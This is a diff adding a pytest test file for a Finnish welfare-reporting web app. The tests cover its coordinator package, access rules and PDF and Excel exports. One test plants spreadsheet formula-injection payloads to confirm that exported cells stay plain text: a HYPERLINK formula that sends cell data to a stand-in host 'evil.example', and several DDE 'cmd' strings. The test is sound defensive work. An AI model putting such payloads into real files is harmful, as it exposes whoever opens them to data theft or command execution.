@@ -1,0 +1,223 @@
+"""The welfare coordinator's package: spans, published content only, scope, the page, PDF and Excel."""
+from __future__ import annotations
+
+import io
+import re
+
+import openpyxl
+import pytest
+import sqlalchemy as sa
+from helpers import ROLES, assert_accessible_pdf, login
+from pypdf import PdfReader
+from welfare_fixtures import (  # noqa: F401
+    H1_2026,
+    H2_2025,
+    LATER,
+    at,
+    coordinator,
+    municipality,
+    publish,
+    published,
+)
+
+from app.codes import AuditAction, Nature, Phenomenon
+from app.extensions import db
+from app.models import AuditEntry, Theme
+from app.workflow.cases.operations import perform
+from app.workflow.cases.transitions import Action
+from app.workflow.compilations.periods import Period
+from app.workflow.core import permissions
+from app.workflow.reports.filing import ReportInput, file_report
+from app.workflow.welfare import package as welfare_package
+from app.workflow.welfare.package import InvalidSpan, Place, parse_span
+
+
+def test_spans():
+    assert parse_span("2026-h1", 2025).periods == (H1_2026,)
+    assert parse_span("2026", 2025).periods == (H1_2026, Period(2026, 2))
+    term = parse_span("2025–2029", 2025)
+    assert term.code == "2025-2029" and term.periods[0] == H2_2025 and term.periods[-1] == Period(2029, 1)
+    assert len(term.periods) == 8 and term.label == "valtuustokausi 2025–2029"
+    for text in ("2026-2030", "2025-2028", "2026-H3", "vuosi", "", "1999"):
+        with pytest.raises(InvalidSpan):
+            parse_span(text, 2025)
+
+
+def test_coordinator_scope(app_ctx, published, org):
+    kuopio, varkaus = municipality("Kuopio"), municipality("Varkaus")
+    assert permissions.can_pull_welfare_package(published["kuopio"], kuopio)
+    assert not permissions.can_pull_welfare_package(published["kuopio"], varkaus)
+    assert not permissions.can_pull_welfare_package(published["kuopio"], None)
+    assert permissions.can_pull_welfare_package(published["county"], None)
+    assert permissions.can_pull_welfare_package(published["county"], varkaus)
+    # the `org` coordinator has a county-wide role; nobody else pulls anything
+    assert all(not permissions.pulls_welfare_content(org[r]) for r in ROLES if r != "coordinator")
+
+
+def test_year_package_of_the_county_uses_the_published_half_and_names_the_missing_one(app_ctx, published):
+    package = welfare_package.build_package(Place(None), parse_span("2026", 2025), None, now=LATER)
+    assert package["published"] == ["2026-H1"]
+    assert [(m["code"], m["state"]) for m in package["missing"]] == [("2026-H2", "draft")]
+    assert package["totals"]["values"] == [4] and package["totals"]["previous"] == 1
+    assert package["totals"]["change"] == 3
+    figures = {f["key"]: {r["code"]: r for r in f["rows"]} for f in package["figures"]}
+    assert figures["themes"]["housing"]["values"] == [2] and figures["themes"]["housing"]["previous"] == 1
+    assert figures["national_phenomena"]["homelessness"]["total"] == 2
+    assert [s["text"] for s in package["summaries"]] == ["Kevään yhteenveto: asuminen ja päihteet."]
+    assert "LUONNOKSEN TEKSTI" not in str(package)
+    highlight = next(h for h in package["highlights"] if h["number"] == published["housing"].number)
+    assert highlight["status"] == "Viety eteenpäin" and highlight["forum"] == "Rakenteellisen sosiaalityön työryhmä"
+    assert highlight["proposed_actions"] == "Nuorille omat tukiasunnot."
+    assert "Raili" not in str(package)
+
+
+def test_a_municipality_sees_its_own_and_county_wide_reports_and_chosen_themes_only(app_ctx, published):
+    span = parse_span("2026-H1", 2025)
+    varkaus = welfare_package.build_package(Place(municipality("Varkaus")), span,
+                                            [("substance_use_and_mental_health", "Päihteet ja mielenterveys")])
+    assert varkaus["totals"]["values"] == [2]  # its own report and the county-wide one
+    assert [t["code"] for t in varkaus["theme_texts"]] == ["substance_use_and_mental_health"]
+    assert [h["number"] for h in varkaus["highlights"]] == [published["varkaus"].number]
+    themes = next(f for f in varkaus["figures"] if f["key"] == "themes")
+    assert [r["code"] for r in themes["rows"]] == ["substance_use_and_mental_health"]
+    kuopio_housing = welfare_package.build_package(Place(municipality("Kuopio")), span, [("housing", "Asuminen")])
+    assert [h["number"] for h in kuopio_housing["highlights"]] == [published["housing"].number]
+    assert kuopio_housing["theme_texts"][0]["entries"][0]["count"] == 2
+
+
+def test_term_package_has_every_published_half_side_by_side(app_ctx, published):
+    package = welfare_package.build_package(Place(None), parse_span("2025-2029", 2025), None, now=LATER)
+    assert package["published"] == ["2025-H2", "2026-H1"] and len(package["missing"]) == 6
+    assert {m["state"] for m in package["missing"]} == {"draft", "not_ended"}
+    assert package["totals"]["values"] == [1, 4] and package["totals"]["total"] == 5
+    assert package["totals"]["slope"] == 3.0
+    housing = next(t for t in package["theme_texts"] if t["code"] == "housing")
+    assert [e["findings"] for e in housing["entries"]] == ["Vuokrat nousevat.", "Nuorten asunnottomuus kasvaa."]
+
+
+def test_the_package_is_frozen_with_the_compilation(app_ctx, published, org):
+    before = welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER)
+    file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                            description="Myöhemmin kirjattu raportti."), now=at(2026, 6, 1))
+    perform(Action.RESOLVE, published["housing"], org["handler"], note="Ratkaistu.")
+    db.session.commit()
+    assert welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER) == before
+
+
+@pytest.mark.parametrize("role", ROLES)
+def test_the_page_is_for_coordinators_only(app, org, published, role):
+    client = app.test_client()
+    login(client, org[role].email)
+    response = client.get("/welfare/")
+    assert response.status_code == (200 if role == "coordinator" else 403), role
+    menu = client.get("/guidance").get_data(as_text=True)
+    assert ('href="/welfare/"' in menu) is (role == "coordinator"), role
+
+
+def test_a_coordinator_gets_404_for_another_municipality(app, published):
+    client = app.test_client()
+    login(client, published["kuopio"].email)
+    page = client.get("/welfare/").get_data(as_text=True)
+    assert re.findall(r'<option[^>]*value="([^"]*)"', page)[0] == "297"  # only Kuopio to choose
+    assert 'value="915"' not in page and 'value="county"' not in page
+    for query in ("municipality=915", "municipality=county", "municipality=999", "municipality=915&span=2026-H1"):
+        assert client.get(f"/welfare/?{query}").status_code == 404, query
+        assert client.get(f"/welfare/aineisto.pdf?{query}").status_code == 404, query
+    assert client.get("/welfare/?municipality=297&span=2026-H1").status_code == 200
+    assert client.get("/welfare/national/2026-H1.json").status_code == 403
+
+
+def test_the_page_has_a_copy_button_per_section_and_works_without_javascript(app, published):
+    client = app.test_client()
+    login(client, published["county"].email)
+    response = client.get("/welfare/?municipality=county&span=2026&themes=housing")
+    page = response.get_data(as_text=True)
+    assert response.status_code == 200
+    assert "<script>" not in page and 'src="/static/js/copy.js"' in page
+    targets = re.findall(r'<button type="button" class="button copy-button" data-copy="([^"]+)" hidden>', page)
+    assert targets == ["copy-source", "copy-figures", "copy-summaries", "copy-themes", "copy-highlights"]
+    assert all(f'id="{target}"' in page for target in targets)
+    assert "Nuorten asunnottomuus kasvaa." in page and "Jonot päihdepalveluihin." not in page
+    assert "1.7.–31.12.2026: Työryhmän luonnos, ei vielä julkaistu" in page
+    script = client.get("/static/js/copy.js")
+    assert script.status_code == 200 and b"clipboard" in script.data
+    script.close()
+
+
+def test_bad_span_is_a_clear_message(app, published):
+    client = app.test_client()
+    login(client, published["county"].email)
+    response = client.get("/welfare/?municipality=county&span=2026-2030")
+    assert response.status_code == 400
+    assert "Ajanjaksoa ”2026-2030” ei tunnisteta" in response.get_data(as_text=True)
+    response = client.get("/welfare/?municipality=county&span=2026-H1&themes=nonexistent")
+    assert response.status_code == 400 and "Tuntematon valinta" in response.get_data(as_text=True)
+
+
+def test_pdf_and_excel_downloads_are_logged(app, published):
+    client = app.test_client()
+    login(client, published["kuopio"].email)
+    response = client.get("/welfare/aineisto.pdf?municipality=297&span=2026&themes=housing")
+    assert response.status_code == 200 and response.mimetype == "application/pdf"
+    assert_accessible_pdf(response.data, "Sosiaalinen raportointi hyvinvointikertomukseen: Kuopio")
+    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
+    flat = " ".join(text.split())
+    assert "Sosiaalinen raportointi hyvinvointikertomukseen" in flat and "Kuopio" in flat
+    assert "Aineisto on vajaa" in flat and "1.7.–31.12.2026: työryhmän luonnos" in flat
+    assert "Nuorten asunnottomuus kasvaa." in flat and "Viety eteenpäin" in flat and "Raili" not in flat
+
+    response = client.get("/welfare/aineisto.xlsx?municipality=297&span=2025-2029")
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    assert {"Tiedot", "Raportteja", "Teemat", "Havainnot ja ehdotukset", "Nostetut raportit"} <= set(book.sheetnames)
+    header = [cell.value for cell in book["Raportteja"][1]]
+    assert header[:3] == ["Alue", "2025-H2", "2026-H1"]
+    assert [cell.value for cell in book["Raportteja"][2]][:4] == ["Kuopio", 1, 3, 4]
+
+    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORTED)
+                                 .order_by(AuditEntry.id)).all()
+    assert [(e.details["what"], e.details["format"], e.details["span"]) for e in entries] == [
+        ("welfare_package", "pdf", "2026"), ("welfare_package", "xlsx", "2025-2029")]
+    assert entries[0].details["themes"] == ["housing"] and entries[0].actor.email == "hyte.kuo@t.example"
+
+
+def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org, create_user):
+    """Anonymous reporters' proposals, excerpts, the group's texts and theme names reach the file as typed, as text."""
+    link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
+    hostile = {"description": link + " kuvaus", "proposed_actions": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "summary": "+cmd|' /C calc'!A0", "findings": "-2+3+cmd|' /C calc'!A0", "proposals": "=1+1",
+               "theme": "@Asuminen"}
+    housing = db.session.scalar(sa.select(Theme).where(Theme.code == "housing"))
+    housing.label_fi = hostile["theme"]
+    report = file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                                     themes=[housing], description=hostile["description"],
+                                     proposed_actions=hostile["proposed_actions"]), now=at(2026, 2, 1)).report
+    db.session.commit()
+    publish(H1_2026, org, hostile["summary"], {"housing": (hostile["findings"], hostile["proposals"])}, [report.number])
+    county = coordinator(create_user, "hyte.alue@t.example", None)
+
+    client = app.test_client()
+    login(client, county.email)
+    response = client.get("/welfare/aineisto.xlsx?municipality=county&span=2026-H1")
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for key, text in hostile.items():
+        found = [value for value in texts if value.startswith(text)]
+        assert found and all(texts[value].data_type == "s" for value in found), key
+    highlight = [cell.value for cell in book["Nostetut raportit"][2]]
+    assert highlight[6].startswith(link) and highlight[7] == hostile["proposed_actions"]
+    assert [cell.value for cell in book["Yhteenvedot"][2]] == ["2026-H1", hostile["summary"]]
+
+
+def test_before_anything_is_published_the_page_says_so(app, org):
+    client = app.test_client()
+    login(client, org["coordinator"].email)
+    page = client.get("/welfare/").get_data(as_text=True)
+    assert "Julkaistuja koosteita ei vielä ole." in page and "copy-button" not in page
+    options = re.findall(r'<option[^>]*value="([^"]*)"', page)
+    assert options[:2] == ["county", "140"] and len(options) == 20  # the county first, then all 19 municipalities
+    response = client.get("/welfare/?municipality=county&span=2025-H1")
+    assert response.status_code == 200 and "Koostetta ei ole vielä tehty" in response.get_data(as_text=True)
